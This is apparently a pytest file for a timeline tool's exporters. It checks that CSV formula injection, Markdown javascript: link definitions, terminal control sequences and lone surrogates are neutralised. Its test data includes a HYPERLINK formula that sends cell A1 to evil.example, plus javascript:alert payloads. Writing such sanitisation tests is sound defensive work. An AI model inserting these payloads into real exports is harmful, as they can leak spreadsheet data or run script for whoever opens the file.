"""Outputs that cannot be abused: no spreadsheet formulas, no Markdown link definitions from a URL, no control
characters where the format forbids them (XML, RFC 5545) or a terminal would run them, no lone surrogate that
fails to encode."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import xml.etree.ElementTree as ET

import icalendar
import pytest
from typer.testing import CliRunner

from chrono import build_timeline, render
from chrono.cli import app
from chrono.pipeline import build_from_documents
from chrono.read import read_documents
from chrono.render import FORMATS
from chrono.render.exporters.csv_export import RAW_CELLS

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click") was posted on Tuesday.',
            "+1 was the score on Tuesday.", "-2 was the score on Tuesday.", "@SUM(A1) rose on Tuesday.",
            "\t=1+2 on Tuesday.", "\uff1d1+2 on Tuesday."]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "timelinejs-csv"])
@pytest.mark.parametrize("sentence", FORMULAS)
def test_formula_cells_are_neutralized(fmt: str, sentence: str) -> None:
    timeline = build_timeline(sentence, published="2023-03-02")
    assert timeline.events
    cells = _cells(render(timeline, fmt))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")], cells
    raw = _cells(render(dataclasses.replace(timeline, meta={RAW_CELLS: True}), fmt))
    neutralized = [cell for cell in cells if cell.startswith("'")]
    assert neutralized or fmt == "timelinejs-csv"  # its headline drops a leading "-" and its text starts "<p>"
    assert [cell[1:] for cell in neutralized] == [cell for cell in raw if cell not in cells]


def test_raw_cells_option(tmp_path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("date 2023-03-02\n\n—\n\n=1+2 happened on Tuesday.\n", encoding="utf-8")
    neutral = runner.invoke(app, ["build", str(article), "-f", "csv"])
    raw = runner.invoke(app, ["build", str(article), "-f", "csv", "--raw-cells"])
    assert "'=1+2" in neutral.stdout and "'=1+2" not in raw.stdout and "=1+2" in raw.stdout


def test_a_url_with_line_breaks_writes_no_markdown_link_definition(tmp_path) -> None:
    record = {"text": "The bridge opened on Tuesday.", "published": "2023-03-02", "title": "Bridge",
              "url": "http://example.com/a\n\n[b]: javascript:alert(1)\n\n[c](javascript:alert(2))"}
    path = tmp_path / "a.json"
    path.write_text(json.dumps(record), encoding="utf-8")
    documents, failures = read_documents([str(path)])
    assert not failures
    for template in ("timeline", "table"):
        text = render(build_from_documents(documents), "md", template=template)
        assert not re.search(r"^\s*\[[^\]]*\]:", text, re.MULTILINE), text
        link = re.search(r"\[link\]\(([^)]*)\)|\]\((http[^)]*)\)", text)
        assert link and "\n" not in (link[1] or link[2]) and " " not in (link[1] or link[2])


CONTROLS = "The mayor\x01 resigned on Tuesday \x1b[31mred\x1b[0m, \x7f\x9b officials said in 2021."
_RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.mark.parametrize("fmt", [fmt for fmt in FORMATS if fmt not in ("json", "jsonl", "timelinejs")])
def test_no_control_character_reaches_a_text_output(fmt: str) -> None:
    text = render(build_timeline(CONTROLS, published="2023-03-02"), fmt)
    assert not _RAW_CONTROL.search(text.replace("\r\n", "\n").replace("\t", " ")), repr(text[:300])


def test_timeml_with_control_characters_stays_xml() -> None:
    ET.fromstring(render(build_timeline(CONTROLS, published="2023-03-02"), "timeml"))


def test_ics_with_control_characters_parses() -> None:
    calendar = icalendar.Calendar.from_ical(render(build_timeline(CONTROLS, published="2023-03-02"), "ics"))
    assert [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]


def test_json_keeps_control_characters_escaped() -> None:
    data = json.loads(render(build_timeline(CONTROLS, published="2023-03-02"), "json"))
    assert "\x01" in data["events"][0]["sentence"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_lone_surrogate_renders_in_every_format(fmt: str) -> None:
    text = render(build_timeline("The mayor\ud800 resigned on Tuesday.", published="2023-03-02"), fmt)
    text.encode("utf-8")  # a lone surrogate would fail here, as it did when written out
    assert "Tuesday" in text or fmt == "mermaid" or "2023" in text


def test_tag_writes_xml_for_text_with_control_characters(tmp_path) -> None:
    article = tmp_path / "c.txt"
    article.write_text(f"date 2023-03-02\n\n{CONTROLS}\n", encoding="utf-8")
    result = runner.invoke(app, ["tag", str(article), "--format", "timeml"])
    assert result.exit_code == 0, result.stderr
    root = ET.fromstring(result.stdout)
    assert [timex.text for timex in root.iter("TIMEX3")][-2:] == ["Tuesday", "2021"]


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
def test_jsonl_is_one_line_per_event_for_any_line_splitter(separator: str) -> None:
    timeline = build_timeline(f"It fell{separator}in 1915. It rose in 1917.", published="2023-03-02")
    text = render(timeline, "jsonl")
    assert len(text.splitlines()) == len(timeline.events) == 2
    assert any(separator in json.loads(line)["sentence"] for line in text.splitlines())  # kept, escaped
